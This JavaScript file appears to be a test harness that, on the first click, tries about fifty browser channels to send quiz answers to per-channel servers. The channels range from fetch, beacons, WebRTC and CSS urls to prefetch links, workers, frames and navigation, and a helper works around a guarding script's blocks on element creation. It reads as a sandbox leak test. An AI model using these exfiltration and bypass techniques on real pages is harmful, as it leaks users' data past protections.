// Inside a document: on the first press, tries every way that TARGETS names to get a word out. Each has a server of its
// own, so that whatever arrives there tells which way was open.
{
  const targets = TARGETS;
  const http = (way) => `http://${targets[way].host}:${targets[way].port}/${way}?answers=4,0,1`;
  const https = (way) => http(way).replace("http:", "https:");
  const body = document.body;
  const make = (name, more, owner = document) => Object.assign(owner.createElement(name), more);
  const put = (name, more) => body.append(make(name, more));
  // An element of this name by whatever door is left: each is one that a first script could have forgotten.
  const smuggle = (name) => {
    const html = "http://www.w3.org/1999/xhtml";
    const doors = [
      () => document.createElement(name),
      () => document.createElementNS(html, name),
      () => document.implementation.createDocument(html, name).documentElement,
      () => document.importNode(document.implementation.createDocument(html, name).documentElement),
      () => document.implementation.createHTMLDocument().createElement(name),
      () => new DOMParser().parseFromString(`<${name}>`, "text/html").querySelector(name),
      () => new DOMParser().parseFromString(`<${name} xmlns="${html}"/>`, "application/xhtml+xml").documentElement,
      () => Document.parseHTMLUnsafe(`<${name}>`).querySelector(name),
      () => document.createRange().createContextualFragment(`<${name}>`).firstChild,
      () => Object.assign(document.createElement("template"), { innerHTML: `<${name}>` }).content.firstChild,
      () => document.querySelector(name).cloneNode(),
      () => {
        const own = `x-${name}-${Math.random().toString(36).slice(2)}`;
        const known = { link: HTMLLinkElement, iframe: HTMLIFrameElement, script: HTMLScriptElement, meta: HTMLMetaElement, object: HTMLObjectElement };
        const made = class extends known[name] {};
        customElements.define(own, made, { extends: name });
        return new made();
      },
    ];
    for (const door of doors) {
      try {
        const node = door();
        if (node?.localName === name) return document.adoptNode(node);
      } catch {}
    }
    throw new Error(`no <${name}>`);
  };
  const link = (rel, way, more) => document.head.append(Object.assign(smuggle("link"), { rel, href: http(way), ...more }));
  const page = (text) => URL.createObjectURL(new Blob([text], { type: "text/html" }));
  const script = (text) => URL.createObjectURL(new Blob([text], { type: "text/javascript" }));
  const peer = async (url) => {
    const talk = new RTCPeerConnection({ iceServers: [{ urls: url }] });
    talk.createDataChannel("answers");
    await talk.setLocalDescription(await talk.createOffer());
  };

  const ways = {
    fetch: (way) => fetch(http(way), { mode: "no-cors", method: "POST", body: "answers" }),
    "fetch-keepalive": (way) => fetch(http(way), { mode: "no-cors", keepalive: true }),
    xhr: (way) => {
      const ask = new XMLHttpRequest();
      ask.open("POST", http(way));
      ask.send("answers");
    },
    websocket: (way) => new WebSocket(http(way).replace("http:", "ws:")),
    webtransport: (way) => new WebTransport(https(way)).ready,
    eventsource: (way) => new EventSource(http(way)),
    beacon: (way) => navigator.sendBeacon(http(way), "answers"),
    image: (way) => (new Image().src = http(way)),
    "svg-image": (way) => {
      const of = (name) => document.createElementNS("http://www.w3.org/2000/svg", name);
      const image = of("image");
      image.setAttribute("href", http(way));
      body.append(of("svg"));
      body.lastChild.append(image);
    },
    video: (way) => put("video", { src: http(way), preload: "auto" }),
    "css-url": (way) => (body.style.backgroundImage = `url(${http(way)})`),
    "css-cursor": (way) => (body.style.cursor = `url(${http(way)}), auto`),
    "css-sheet": (way) => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`body { border-image: url(${http(way)}) 1; border-style: solid }`);
      document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
    },
    font: (way) => new FontFace("f", `url(${http(way)})`).load(),
    stylesheet: (way) => link("stylesheet", way),
    prefetch: (way) => link("prefetch", way),
    preload: (way) => link("preload", way, { as: "image" }),
    preconnect: (way) => link("preconnect", way),
    "dns-prefetch": (way) => link("dns-prefetch", way),
    "anchor-dns": (way) => {
      document.head.append(Object.assign(smuggle("meta"), { httpEquiv: "x-dns-prefetch-control", content: "on" }));
      put("a", { href: http(way), textContent: "a" });
    },
    script: (way) => body.append(Object.assign(smuggle("script"), { src: http(way) })),
    import: (way) => import(http(way)),
    worker: (way) => new Worker(script(`fetch("${http(way)}", { mode: "no-cors" })`)),
    "shared-worker": (way) => new SharedWorker(script(`fetch("${http(way)}", { mode: "no-cors" })`)),
    "service-worker": (way) => navigator.serviceWorker.register(`/worker.js?${targets[way].host}:${targets[way].port}`),
    frame: (way) => body.append(Object.assign(smuggle("iframe"), { src: http(way) })),
    "frame-srcdoc": (way) => body.append(Object.assign(smuggle("iframe"), { srcdoc: `<img src="${http(way)}">` })),
    object: (way) => body.append(Object.assign(smuggle("object"), { data: http(way) })),
    webrtc: (way) => peer(`stun:${targets[way].ip}:${targets[way].port}`),
    "webrtc-of-a-frame": (way) => {
      const frame = smuggle("iframe");
      body.append(frame);
      window.RTCPeerConnection ??= frame.contentWindow.RTCPeerConnection;
      return peer(`stun:${targets[way].ip}:${targets[way].port}`);
    },
    ping: (way) => make("a", { href: "#", ping: http(way) }).click(),
    "form-in-a-window": (way) => {
      const form = make("form", { action: http(way), method: "post", target: "_blank" });
      body.append(form);
      form.submit();
    },
    open: (way) => window.open(http(way)),
    download: (way) => make("a", { href: http(way), download: "answers" }).click(),
    // From here on a way that is open takes the document away: each is tried in a document of its own.
    location: (way) => (location = http(way)),
    "location-replace": (way) => location.replace(http(way)),
    navigation: (way) => navigation.navigate(http(way)),
    "link-click": (way) => {
      const a = make("a", { href: http(way) });
      body.append(a);
      a.click();
    },
    form: (way) => {
      const form = make("form", { action: http(way) });
      body.append(form);
      form.requestSubmit();
    },
    "meta-refresh": (way) => {
      const meta = smuggle("meta");
      meta.httpEquiv = "refresh";
      meta.content = `0;url=${http(way)}`;
      document.head.append(meta);
    },
    "page-of-our-own": (way) =>
      (location = page(`<meta http-equiv="x-dns-prefetch-control" content="on"><link rel="dns-prefetch" href="${http(way)}"><link rel="preconnect" href="${http(way)}"><img src="${http(way)}"><a href="${http(way)}">a</a>`)),
    "page-in-data": (way) => (location = `data:text/html,<img src="${http(way)}">`),
    "script-address": (way) => (location = `javascript:"<img src='${http(way)}'>"`),
    "parent-location": (way) => (parent.location = http(way)),
    "top-location": (way) => (top.location = http(way)),
  };
  addEventListener(
    "click",
    async () => {
      document.title = "tried";
      for (const way of Object.keys(targets)) {
        try {
          await Promise.race([ways[way](way), new Promise((done) => setTimeout(done, 50))]);
        } catch {}
      }
    },
    { once: true, capture: true },
  );
}
